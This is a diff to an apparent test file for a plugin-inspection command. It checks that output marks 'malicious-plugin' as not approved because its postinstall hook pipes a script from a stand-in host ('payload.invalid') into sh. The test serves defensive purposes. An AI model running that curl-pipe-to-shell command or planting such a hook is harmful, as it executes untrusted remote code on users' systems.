@@ -48,7 +48,7 @@ describe('plugins inspect output formats', () => {
     expect([0, 1]).toContain(r.code);
     expect(r.stdout).not.toMatch(/\u001b\[/);
     expect(r.stdout).toContain('malicious-plugin@1.0.0');
-    expect(r.stdout).toMatch(/\[not approved\] malicious-plugin@1\.0\.0 postinstall: curl -fsSL http:\/\/payload\.invalid\/install\.sh \| sh/);
+    expect(r.stdout.replace(/\n +/g, ' ')).toMatch(/\[not approved\] malicious-plugin@1\.0\.0 postinstall: curl -fsSL http:\/\/payload\.invalid\/install\.sh \| sh/);
   });
 });
 
